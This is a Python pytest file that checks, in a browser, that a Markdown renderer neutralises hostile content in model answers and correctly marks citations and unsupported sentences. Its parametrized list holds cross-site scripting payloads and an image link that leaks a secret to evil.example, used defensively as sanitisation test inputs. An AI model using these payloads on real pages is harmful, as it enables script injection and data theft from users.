"""Markdown from a model is untrusted: what it becomes on the page."""

import json

import pytest

RENDER = """async ([text, marks]) => {
    const shell = document.querySelector('script[type=module]').src;
    const { renderMarkdown } = await import(shell.replace('pages/shell.js', 'markdown.js'));
    const place = document.createElement('div');
    place.append(renderMarkdown(text, { ...marks, citations: new Set(marks.citations ?? []) }));
    return place.innerHTML;
}"""


@pytest.fixture(scope="module")
def render(browser, sample_server):
    """Render Markdown in the browser; the HTML that it becomes."""
    page = browser.new_page(base_url=sample_server.url)
    page.goto("/traces")
    yield lambda text, **marks: page.evaluate(RENDER, [text, marks])
    page.close()


def spans(text, *parts):
    """Where parts stand in a text, in code points."""
    return [{"start": text.index(part), "end": text.index(part) + len(part)} for part in parts]


@pytest.mark.parametrize(
    "attack",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "![x](https://evil.example/leak?q=secret)",
        "[x](javascript:alert(1))",
        "[x](data:text/html,<script>alert(1)</script>)",
        "<svg><style>@import 'https://evil.example'</style></svg>",
        "<a href='https://good.example' onclick='alert(1)'>x</a>",
        '<iframe src="https://evil.example"></iframe>',
        '<form action="https://evil.example"><input name=q></form>',
        "[x](//evil.example)",
        '[x](https://a.example "onmouseover=alert(1) x=")',
    ],
)
def test_nothing_in_an_answer_runs_loads_or_leads_astray(render, attack):
    html = render(f"Before.\n\n{attack}\n\nAfter.")
    for bad in (
        "<script",
        "<img",
        "<svg",
        "<style",
        "<iframe",
        "<form",
        "<input",
        'href="javascript',
        'href="data',
        'href="//',
    ):
        assert bad not in html.lower(), html
    assert "<a href='https://good.example' onclick" not in html
    assert "Before." in html and "After." in html


def test_numbers_of_known_citations_become_buttons_and_others_stay(render):
    html = render("Known [1], unknown [7], code `a[1]`.", citations=[1])
    assert html.count('class="cite"') == 1
    assert 'data-n="1"' in html and "[7]" in html and "a[1]" in html


def test_a_sentence_without_support_is_marked_also_behind_astral_characters(render):
    text = "A seal 🦭 lives here. 🌊🌊 It sings. It sleeps."
    html = render(text, unsupported=spans(text, "It sings."))
    assert '<span class="unsupported"' in html
    assert ">It sings.<" in html
    assert "It sleeps.<span" not in html


def test_an_unsupported_list_item_stays_a_list_item(render):
    text = "Facts:\n\n- It is **blue** [1].\n- It is green.\n\n## Heading\n"
    html = render(text, citations=[1], unsupported=spans(text, "- It is **blue** [1].", "## Heading"))
    assert html.count("<li>") == 2 and "<h2>" in html and "<strong>" in html
    assert html.count("unsupported") >= 3 and 'class="cite"' in html


def test_an_unsupported_sentence_across_markup_is_marked_whole(render):
    text = "One. Two *three* `four` five. Six."
    html = render(text, unsupported=spans(text, "Two *three* `four` five."))
    assert html.count('class="unsupported"') == 4
    assert "\ue000" not in html and "\ue001" not in html


def test_marks_of_our_own_in_an_answer_are_not_taken_for_ours(render):
    html = render("A \ue000trick\ue001 text.")
    assert "unsupported" not in html and json.dumps("\ue000")[1:-1] not in html


def test_tables_code_and_lists_are_kept(render):
    html = render("| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\nx = 1 < 2\n```\n\n1. one\n2. two\n")
    assert "<table>" in html and "<ol>" in html
    assert '<code class="language-python">x = 1 &lt; 2' in html
